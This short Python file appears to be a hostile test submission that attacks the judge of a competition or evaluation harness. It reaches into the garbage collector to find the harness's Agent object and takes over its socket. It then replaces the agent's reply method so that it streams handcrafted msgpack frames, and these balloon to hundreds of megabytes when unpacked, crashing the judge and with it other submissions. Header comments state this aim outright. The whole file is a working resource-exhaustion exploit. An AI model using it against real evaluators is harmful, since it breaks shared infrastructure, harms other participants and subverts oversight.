# kind = "harm"
# goal = "the judge's memory, and with it the other submissions that it judges"
# trick = "streams a reply of 24 MB, small to send, whose 24 million numbers are large once unpacked; then one of 240 MB"
# mark = 0
# %%
import gc, os, struct
gc.unfreeze()
for thing in gc.get_objects():
    if type(thing).__name__ == "Agent":
        agent = thing
fd = agent.channel.sock.fileno()
ROWS, ROW = 6, 4_000_000
sent = []
def answer(frame):
    message = frame.message
    head = b"\x94" + b"\xce" + struct.pack(">I", message[0]) + b"\xa2ok" + b"\x92\xa1l" + b"\xdd" + struct.pack(">I", ROWS)
    row = b"\xdd" + struct.pack(">I", ROW) + b"\x00" * ROW
    tail = b"\x90"
    rows = ROWS if not sent else 60
    sent.append(message[0])
    head = head[:-4] + struct.pack(">I", rows)
    parts = [struct.pack("<II", len(head) + rows * len(row) + len(tail), 0), head, *[row] * rows, tail]
    for part in parts:
        view = memoryview(part)
        while view:
            view = view[os.write(fd, view):]
agent.answer = answer
